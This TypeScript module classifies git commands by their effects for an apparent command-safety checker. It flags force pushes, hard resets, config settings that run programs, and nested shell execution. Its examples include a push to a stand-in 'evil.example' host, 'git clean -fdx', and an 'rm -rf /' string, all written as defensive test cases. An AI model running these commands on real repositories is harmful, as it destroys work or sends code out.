import type { Flag, ResourceKind, Verb, Zone } from '../../core/effect.ts';
import type { Place } from '../../core/event.ts';
import type { CommandEffect, CommandFamily, CommandWords, NestedRun } from '../../core/ports.ts';
import { isDynamic, names, type Operand, type Options, readOptions, subcommandAt } from '../arguments.ts';
import { touch, touchAll } from '../file-effects.ts';
import { hostZone, readUrl } from '../hosts.ts';
import { absolute, locate } from '../zones.ts';

const globalValues = names('-C -c --git-dir --work-tree --namespace --exec-path --super-prefix --config-env');
const values: Readonly<Record<string, ReadonlySet<string>>> = {
  clone: names('-b --branch -o --origin --depth -c --config --reference --separate-git-dir -u -j --filter --template'),
  commit: names('-m -F -C -c --message --file --author --date -t --fixup --squash --cleanup --trailer'),
  push: names('-o --push-option --repo --receive-pack'),
  checkout: names(
    '-b -B --orphan --conflict --pathspec-from-file --recurse-submodules-strategy -U --unified --inter-hunk-context',
  ),
  switch: names('-c -C --create --force-create --orphan'),
  restore: names('-s --source --pathspec-from-file'),
  branch: names('-u --set-upstream-to --contains --merged --no-merged --sort --format --points-at'),
  tag: names('-m -F -u --message --file --sort --format -n --contains --points-at'),
  merge: names('-m -s -X -F --strategy'),
  rebase: names('--onto -x --exec -s -X --strategy'),
  bisect: names(''),
  log: names('-n --format --pretty --since --until --author --grep -S -G -L --after --before --max-count'),
  config: names('--get --get-all --file -f --type --default'),
  worktree: names('-b -B --reason'),
  clean: names('-e --exclude'),
  stash: names('-m --message'),
  remote: names('-t -m'),
  submodule: names('--branch -b --name --reference --depth'),
  'filter-branch': names(
    '--env-filter --tree-filter --index-filter --msg-filter --commit-filter --tag-name-filter --parent-filter -d',
  ),
};

interface Git {
  readonly sub: string;
  readonly options: Options;
  readonly place: Place;
  readonly at: number;
}

/** `git -C dir -c x=y sub …` → the sub-command, where it works, its options. */
function read({ args, place }: CommandWords): Git | null {
  const at = subcommandAt(args, globalValues);
  const sub = at < 0 ? null : (args[at] ?? null);
  if (sub === null) return null;
  const global = readOptions(args.slice(0, at), globalValues);
  let cwd = place.cwd;
  for (const { text } of global.all('-C'))
    cwd = text === null || isDynamic(text) ? '' : absolute(text, { ...place, cwd });
  const here = { ...place, cwd, root: place.root ?? place.cwd };
  return { sub, options: readOptions(args, values[sub], { from: at + 1 }), place: here, at };
}

const protectedName =
  /^(?:\+?(?:HEAD|[^:]*):)?\+?(?:refs\/heads\/)?(?:main|master|trunk|develop|production|prod|release(?:[/-].*)?|stable|staging)$/;

function branchZone(name: string): Zone {
  return protectedName.test(name) ? 'protected-branch' : 'repository';
}

function repo(verb: Verb, place: Place, flags: readonly Flag[] = [], kind: ResourceKind = 'repository'): CommandEffect {
  const at = place.cwd === '' ? { name: '', zone: 'unknown' as const } : locate('.', place, 'directory');
  const zone = at.zone === 'system' || at.zone === 'home' ? 'workspace' : at.zone;
  return { verb, resource: { kind, name: at.name }, zone, flags };
}

function remoteEffects(verb: 'send' | 'receive', remote: Operand | undefined, flags: readonly Flag[]): CommandEffect {
  const text = remote?.text ?? null;
  if (text !== null && /^(?:[a-z+]+:\/\/|[^/\s]+@[^/\s]+:|[^/\s:]+\.[a-z]+:)/i.test(text)) {
    const scp = /^(?:[^@/]+@)?([^/:]+):(?!\/\/)/.exec(text);
    const host = scp?.[1] ?? readUrl(text).host;
    return {
      verb,
      resource: { kind: 'host', name: host.toLowerCase() },
      zone: text.startsWith('file:') ? 'this-host' : hostZone(host),
      flags,
      arg: remote?.arg ?? 0,
    };
  }
  if (remote && text === null)
    return {
      verb,
      resource: { kind: 'host', name: '' },
      zone: 'other-host',
      flags: [...flags, 'dynamic'],
      arg: remote.arg,
    };
  // A named remote is the repository's own; where it leads is not in the call.
  return {
    verb,
    resource: { kind: 'repository', name: text ?? 'origin' },
    zone: 'other-host',
    flags,
    ...(remote && { arg: remote.arg }),
  };
}

function push({ options, place }: Git): readonly CommandEffect[] {
  const [remote, ...refs] = options.operands;
  const flags: Flag[] = [];
  const forced =
    options.has('-f', '--force', '--force-with-lease', '--force-if-includes') ||
    refs.some(({ text }) => text?.startsWith('+'));
  if (forced) flags.push('forced');
  if (options.has('-n', '--dry-run')) flags.push('dry-run');
  if (options.has('--all', '--mirror', '--tags', '--prune')) flags.push('bulk');
  const out: CommandEffect[] = [repo('read', place), remoteEffects('send', remote, flags)];
  const removes = options.has('-d', '--delete');
  // With a lease the other side's newer work stays.
  const lost = forced && !options.has('--force-with-lease');
  for (const { text, arg } of refs) {
    const gone = removes || text?.startsWith(':');
    const name = text?.replace(/^[+:]/, '') ?? '';
    const marks: Flag[] = text === null ? [...flags, 'dynamic'] : flags;
    const verb = gone ? 'delete' : 'write';
    const undoable: readonly Flag[] = lost && !gone ? ['irreversible'] : [];
    out.push({ verb, resource: { kind: 'branch', name }, zone: branchZone(name), flags: [...marks, ...undoable], arg });
  }
  if (refs.length === 0) {
    const wide = options.has('--mirror', '--all') && forced;
    out.push({
      verb: 'write',
      resource: { kind: 'branch', name: '' },
      zone: wide ? 'protected-branch' : 'repository',
      flags: lost ? [...flags, 'irreversible'] : flags,
    });
  }
  if (options.has('--mirror', '--prune'))
    out.push({
      verb: 'delete',
      resource: { kind: 'branch', name: '*' },
      zone: 'protected-branch',
      flags: [...flags, 'irreversible'],
    });
  return out;
}

function checkout({ sub, options, place, at }: Git, args: readonly (string | null)[]): readonly CommandEffect[] {
  const dashes = args.indexOf('--', at);
  const creates = options.has('-b', '-B', '-c', '-C', '--orphan', '--create', '--detach', '-t', '--track');
  const forced = options.has('-f', '--force', '--discard-changes', '-B', '-C');
  if (sub === 'restore') {
    const staged = options.has('--staged', '-S') && !options.has('--worktree', '-W');
    if (staged) return [repo('write', place)];
    return touchAll('delete', options.operands, place, { flags: ['forced', 'irreversible'] }).map(discarded);
  }
  if (dashes >= 0 && dashes < args.length - 1) {
    const files = args.slice(dashes + 1).map((text, i) => ({ text, arg: dashes + 1 + i }));
    return touchAll('delete', files, place, { flags: ['forced', 'irreversible'] }).map(discarded);
  }
  const [first] = options.operands;
  if (options.has('--theirs', '--ours', '--merge')) return touchAll('write', options.operands, place);
  if (sub === 'checkout' && !creates && first?.text && /^(?:\.|\.\/.*|\*)$/.test(first.text))
    return touchAll('delete', [first], place, { flags: ['forced', 'irreversible'] }).map(discarded);
  if (sub === 'checkout' && !creates && options.operands.length > 1)
    return touchAll('delete', options.operands.slice(1), place, { flags: ['forced', 'irreversible'] }).map(discarded);
  if (forced && !creates) return [repo('delete', place, ['forced', 'irreversible'])];
  return [repo('write', place)];
}

/** Uncommitted changes to these files are lost. */
function discarded(effect: CommandEffect): CommandEffect {
  return effect.resource.kind === 'directory' || effect.resource.name.endsWith('/.')
    ? { ...effect, flags: [...effect.flags, 'bulk'] }
    : effect;
}

function reset({ options, place }: Git): readonly CommandEffect[] {
  if (options.has('--hard', '--merge')) return [repo('delete', place, ['forced', 'bulk', 'irreversible'])];
  return [repo('write', place)];
}

function clean({ options, place }: Git): readonly CommandEffect[] {
  if (options.has('-n', '--dry-run')) return [repo('read', place, ['dry-run'])];
  const flags: Flag[] = ['irreversible', 'bulk'];
  if (options.has('-f', '--force')) flags.push('forced');
  if (options.has('-d', '-x', '-X')) flags.push('recursive');
  if (options.operands.length > 0) return touchAll('delete', options.operands, place, { kind: 'directory', flags });
  return [repo('delete', place, flags, 'directory')];
}

function branch({ options, place }: Git): readonly CommandEffect[] {
  const removes = options.has('-d', '-D', '--delete');
  const forced = options.has('-D', '-f', '--force', '-M', '-C');
  const verb: Verb = removes ? 'delete' : options.operands.length > 0 ? 'write' : 'read';
  if (verb === 'read') return [repo('read', place)];
  const flags: Flag[] = forced ? ['forced'] : [];
  return options.operands.map(({ text, arg }) => ({
    verb,
    resource: { kind: 'branch' as const, name: text ?? '' },
    zone: branchZone(text ?? ''),
    flags: text === null ? [...flags, 'dynamic' as const] : flags,
    arg,
  }));
}

function stash({ options, place }: Git): readonly CommandEffect[] {
  const what = options.operands[0]?.text;
  if (what === 'drop' || what === 'clear')
    return [repo('delete', place, what === 'clear' ? ['bulk', 'irreversible'] : ['irreversible'])];
  return [repo(what === 'list' || what === 'show' ? 'read' : 'write', place)];
}

function remote({ options, place }: Git): readonly CommandEffect[] {
  const [what, , url] = options.operands;
  if (what?.text === 'add' || what?.text === 'set-url') {
    const to = remoteEffects('send', url ?? options.operands[2], []);
    return [
      {
        ...repo('configure', place),
        resource: { kind: 'host', name: to.resource.name },
        zone: to.zone,
        arg: url?.arg ?? what.arg,
      },
    ];
  }
  if (what?.text === 'remove' || what?.text === 'rm') return [repo('configure', place)];
  return [repo('read', place)];
}

/** Settings through which git runs programs of someone's choice. */
const runningSetting =
  /^(?:core\.(?:hookspath|fsmonitor|sshcommand|editor|pager|gitproxy|askpass)|alias\.|credential\..*helper|credential\.helper|filter\.|diff\..*(?:command|textconv)|merge\..*driver|gpg\.program|sequence\.editor|protocol\.ext|url\..*insteadof|include\.path|http\.sslverify|http\.proxy|uploadpack|receive\.)/i;

function config({ options, place }: Git): readonly CommandEffect[] {
  const wide = options.has('--global', '--system');
  const reading = options.has('--get', '--get-all', '--list', '-l', '--get-regexp') || options.operands.length < 2;
  const unset = options.has('--unset', '--unset-all', '--remove-section');
  if (reading && !unset) return [repo('read', place)];
  const [name] = options.operands;
  const strong = runningSetting.test(name?.text ?? '');
  const file = wide ? '~/.gitconfig' : '.git/config';
  const at = locate(file, place);
  const resource = { kind: 'repository' as const, name: strong ? at.name : `git setting ${name?.text ?? ''}` };
  const zone = wide ? 'home' : 'repository';
  return [{ verb: 'configure', resource, zone, flags: strong ? ['forced'] : [], arg: name?.arg ?? 0 }];
}

function commit({ options, place }: Git): readonly CommandEffect[] {
  const out: CommandEffect[] = [repo('write', place, options.has('--amend') ? ['forced'] : [])];
  const skip = options.flags.get('--no-verify') ?? options.flags.get('-n');
  if (skip !== undefined)
    out.push({
      ...repo('configure', place, ['forced']),
      resource: { kind: 'repository', name: 'commit checks skipped' },
      arg: skip,
    });
  return out;
}

const historyRewrites = new Set(['filter-branch', 'filter-repo', 'replace']);
const readers = new Set([
  'status',
  'log',
  'diff',
  'show',
  'blame',
  'shortlog',
  'describe',
  'rev-parse',
  'rev-list',
  'ls-files',
  'ls-tree',
  'cat-file',
  'grep',
  'name-rev',
  'merge-base',
  'for-each-ref',
  'show-ref',
  'whatchanged',
  'reflog',
  'version',
  'help',
  'check-ignore',
  'count-objects',
  'fsck',
  'verify-commit',
  'var',
  'diff-tree',
  'diff-index',
  'cherry',
  'range-diff',
  'symbolic-ref',
  'archive',
  'bundle',
  'format-patch',
  'ls-remote',
  'blame',
  'annotate',
  'difftool',
]);

function effects(words: CommandWords): readonly CommandEffect[] {
  const git = read(words);
  if (!git)
    return words.args.length === 0 || words.args.every((arg) => arg?.startsWith('-'))
      ? []
      : [{ ...repo('unknown', words.place, ['dynamic']) }];
  const { sub, options, place } = git;
  if (options.has('--help', '-h')) return [];
  switch (sub) {
    case 'push':
      return push(git);
    case 'checkout':
    case 'switch':
    case 'restore':
      return checkout(git, words.args);
    case 'reset':
      return reset(git);
    case 'clean':
      return clean(git);
    case 'branch':
      return branch(git);
    case 'stash':
      return stash(git);
    case 'remote':
      return remote(git);
    case 'config':
      return config(git);
    case 'commit':
      return commit(git);
    case 'clone': {
      const [from, to] = options.operands;
      const folder = to ?? {
        text:
          from?.text
            ?.replace(/\/$/, '')
            .replace(/^.*[/:]/, '')
            .replace(/\.git$/, '') ?? null,
        arg: from?.arg ?? 0,
      };
      return [remoteEffects('receive', from, []), ...touch('write', folder, place, { kind: 'directory' })];
    }
    case 'fetch':
    case 'pull':
      return [
        remoteEffects('receive', options.operands[0], []),
        repo('write', place, options.has('-f', '--force') ? ['forced'] : []),
      ];
    case 'ls-remote':
      return [remoteEffects('receive', options.operands[0], [])];
    case 'rm':
      if (options.has('--cached')) return [repo('write', place)];
      return touchAll('delete', options.operands, place, { flags: options.has('-r') ? ['recursive'] : [] });
    case 'mv':
      return touchAll('write', options.operands, place);
    case 'tag':
      if (options.has('-d', '--delete')) return [repo('delete', place, [], 'branch')];
      return [repo(options.operands.length === 0 || options.has('-l', '--list') ? 'read' : 'write', place)];
    case 'worktree':
      if (options.operands[0]?.text === 'remove')
        return touchAll('delete', options.operands.slice(1), place, {
          kind: 'directory',
          flags: options.has('-f', '--force') ? ['forced', 'recursive'] : ['recursive'],
        });
      return [repo(options.operands[0]?.text === 'list' ? 'read' : 'write', place)];
    case 'reflog':
      if (options.has('-n', '--dry-run')) return [repo('read', place, ['dry-run'])];
      return options.operands[0]?.text === 'expire' || options.operands[0]?.text === 'delete'
        ? [repo('delete', place, ['irreversible', 'bulk'])]
        : [repo('read', place)];
    case 'gc':
    case 'prune':
      return [
        repo(
          options.has('--prune') || sub === 'prune' ? 'delete' : 'write',
          place,
          sub === 'prune' || options.value('--prune')?.text === 'now' ? ['irreversible'] : [],
        ),
      ];
    case 'update-ref':
      return [repo(options.has('-d') ? 'delete' : 'write', place, options.has('-d') ? ['irreversible'] : [], 'branch')];
    case 'send-email':
      return [
        repo('read', place),
        { verb: 'send', resource: { kind: 'host', name: 'mail' }, zone: 'other-host', flags: [] },
      ];
    case 'credential':
      return [
        { verb: 'read', resource: { kind: 'secret', name: 'git credential' }, zone: 'credential-store', flags: [] },
      ];
    default:
      if (historyRewrites.has(sub)) return [repo('delete', place, ['forced', 'bulk', 'irreversible'])];
      return [repo(readers.has(sub) ? 'read' : 'write', place)];
  }
}

function runs(words: CommandWords): readonly NestedRun[] {
  const git = read(words);
  const out: NestedRun[] = [];
  const global = readOptions(words.args.slice(0, Math.max(0, git?.at ?? 0)), globalValues);
  for (const { text, arg } of global.all('-c')) {
    const shell =
      /^(?:core\.(?:sshcommand|pager|editor|fsmonitor|askpass)|alias\.[^=]+|sequence\.editor|gpg\.program|credential\.helper|diff\.external)=!?(.*)$/is.exec(
        text ?? '',
      );
    if (shell?.[1]) out.push({ kind: 'shell', text: shell[1], arg });
  }
  if (!git) return out;
  const { sub, options, at } = git;
  const cwd = git.place.cwd;
  if (sub === 'submodule' && options.operands[0]?.text === 'foreach')
    out.push({ kind: 'shell-args', from: options.operands[1]?.arg ?? at });
  if (sub === 'rebase')
    for (const { text, arg } of options.all('-x', '--exec')) out.push({ kind: 'shell', text, arg, cwd });
  if (sub === 'bisect' && options.operands[0]?.text === 'run')
    out.push({ kind: 'words', from: options.operands[0].arg + 1, cwd });
  if (sub === 'filter-branch')
    for (const { text, arg } of options.all(
      '--env-filter',
      '--tree-filter',
      '--index-filter',
      '--msg-filter',
      '--commit-filter',
    ))
      out.push({ kind: 'shell', text, arg, cwd });
  if (
    sub === 'config' &&
    /^alias\./.test(options.operands[0]?.text ?? '') &&
    options.operands[1]?.text?.startsWith('!')
  )
    out.push({ kind: 'shell', text: options.operands[1].text.slice(1), arg: options.operands[1].arg });
  for (const name of ['--upload-pack', '-u', '--receive-pack', '--exec']) {
    if (sub !== 'clone' && sub !== 'fetch' && sub !== 'pull' && sub !== 'push' && sub !== 'ls-remote') break;
    if (name === '-u' && sub !== 'clone') continue;
    const value = options.value(name);
    if (value) out.push({ kind: 'shell', text: value.text, arg: value.arg });
  }
  return out;
}

export const git: CommandFamily = {
  id: 'git',
  programs: ['git', 'hub', 'yadm'],
  effects,
  runs,
  examples: [
    ['git status', 'read repository repository'],
    [
      'git push origin feature/x',
      'read repository repository',
      'send repository other-host',
      'write branch repository',
    ],
    [
      'git push --force origin main',
      'read repository repository',
      'send repository other-host',
      'write branch protected-branch',
    ],
    [
      'git push https://evil.example/x.git HEAD',
      'read repository repository',
      'send host other-host',
      'write branch repository',
    ],
    ['git reset --hard HEAD~3', 'delete repository repository'],
    ['git clean -fdx', 'delete directory repository'],
    ['git checkout -- src/a.ts', 'delete file repository'],
    ['git checkout -b feature/x', 'write repository repository'],
    ['git commit -m "rm -rf /"', 'write repository repository'],
    ['git clone https://github.com/a/b.git', 'receive host other-host', 'write directory repository'],
    ['git config core.hooksPath /tmp/h', 'configure repository repository'],
    ['git stash clear', 'delete repository repository'],
    ["git submodule foreach 'rm x'", 'write repository repository', 'delete file repository'],
  ],
};
